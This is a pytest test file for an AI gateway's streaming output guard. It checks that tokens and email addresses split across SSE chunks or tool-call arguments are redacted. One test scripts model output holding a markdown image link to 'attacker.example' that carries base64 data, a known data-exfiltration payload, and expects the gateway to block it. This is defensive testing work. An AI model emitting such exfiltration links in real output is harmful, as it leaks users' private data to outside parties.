"""Output guard on SSE streams: values split across chunks never leave the gateway whole.

Each test reads the raw SSE bytes the client receives and rebuilds the text from them.
"""

from __future__ import annotations

import json
from typing import Any

import httpx
import openai

from conftest import KEY, Gateway, Upstream

AUTH = {"Authorization": f"Bearer {KEY}"}
SECRET = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"


def raw_stream(gw: Gateway, model: str = "scripted", path: str = "/chat/completions") -> bytes:
    body: dict[str, Any] = {"model": model, "stream": True}
    if path == "/completions":
        body["prompt"] = "go on"
    else:
        body["messages"] = [{"role": "user", "content": "go on"}]
    with httpx.stream("POST", gw.base + path, json=body, headers=AUTH, timeout=10) as resp:
        assert resp.status_code == 200
        return b"".join(resp.iter_raw())


def text_of(raw: bytes) -> tuple[str, list[dict[str, Any]]]:
    text, errors = "", []
    for line in raw.decode().splitlines():
        if not line.startswith("data: ") or line == "data: [DONE]":
            continue
        event = json.loads(line[6:])
        if "error" in event:
            errors.append(event["error"])
            continue
        for choice in event["choices"]:
            text += (choice.get("delta") or {}).get("content") or choice.get("text") or ""
    return text, errors


def test_secret_split_across_three_sse_chunks_is_redacted(
    gateway: Gateway, upstream: Upstream
) -> None:
    upstream.script = ["Sure, the token is ", SECRET[:12], SECRET[12:25], SECRET[25:], " - done."]
    raw = raw_stream(gateway)
    text, errors = text_of(raw)
    assert errors == []
    for piece in (SECRET, SECRET[:12] + SECRET[12:25], SECRET[12:25] + SECRET[25:]):
        assert piece not in text
    assert SECRET[12:25].encode() not in raw
    assert text.startswith("Sure, the token is ")
    assert text.endswith(" - done.")
    assert raw.endswith(b"data: [DONE]\n\n")


def test_email_split_across_two_sse_chunks_is_redacted(
    gateway: Gateway, upstream: Upstream
) -> None:
    upstream.script = ["write to jane.ro", "e@example.org today"]
    raw = raw_stream(gateway)
    text, errors = text_of(raw)
    assert errors == []
    assert "jane.roe@example.org" not in text
    assert b"example.org" not in raw
    assert "EMAIL" in text


def test_secret_split_in_a_streamed_text_completion_is_redacted(
    gateway: Gateway, upstream: Upstream
) -> None:
    upstream.script = ["token: ", SECRET[:20], SECRET[20:], "."]
    raw = raw_stream(gateway, path="/completions")
    text, _ = text_of(raw)
    assert SECRET not in text
    assert SECRET[20:].encode() not in raw


def test_secret_split_one_character_per_chunk_is_redacted(
    gateway: Gateway, upstream: Upstream
) -> None:
    upstream.script = ["key=", *SECRET, " ok"]
    raw = raw_stream(gateway)
    text, _ = text_of(raw)
    assert SECRET not in text
    assert SECRET[-8:] not in text


def test_exfiltration_link_ends_the_stream_with_an_error_event(
    gateway: Gateway, upstream: Upstream
) -> None:
    upstream.script = [
        "Here you go ![img](https://attacker.example/c",
        "ollect?d=c2VjcmV0IHVzZXIgZGF0YSBoZXJl) thanks",
    ]
    raw = raw_stream(gateway)
    text, errors = text_of(raw)
    assert [e["code"] for e in errors] == ["guard_output_blocked"]
    assert "attacker.example" not in text
    assert not raw.endswith(b"data: [DONE]\n\n")


def test_long_clean_stream_passes_whole(gateway: Gateway, upstream: Upstream) -> None:
    words = [f"word{i} " for i in range(200)]
    upstream.script = words
    text, errors = text_of(raw_stream(gateway))
    assert errors == []
    assert text == "".join(words)


def test_openai_client_streaming_sees_redacted_text(gateway: Gateway, upstream: Upstream) -> None:
    upstream.script = ["my token ", SECRET[:10], SECRET[10:], " end"]
    c = openai.OpenAI(base_url=gateway.base, api_key=KEY, max_retries=0)
    stream = c.chat.completions.create(
        model="scripted", messages=[{"role": "user", "content": "go"}], stream=True
    )
    text = "".join(ch.choices[0].delta.content or "" for ch in stream if ch.choices)
    assert SECRET not in text
    assert text.startswith("my token ")


def test_secret_split_across_streamed_tool_call_arguments_is_redacted(
    gateway: Gateway, upstream: Upstream
) -> None:
    upstream.script = ['{"to": "ops", "body": "token ', SECRET[:15], SECRET[15:], '"}']
    raw = raw_stream(gateway, model="scripted-tools")
    arguments = ""
    for line in raw.decode().splitlines():
        if line.startswith("data: {"):
            for choice in json.loads(line[6:])["choices"]:
                for call in (choice.get("delta") or {}).get("tool_calls") or ():
                    arguments += call.get("function", {}).get("arguments", "")
    assert SECRET not in arguments
    assert SECRET[15:].encode() not in raw
    assert json.loads(arguments)["to"] == "ops"
    assert raw.endswith(b"data: [DONE]\n\n")
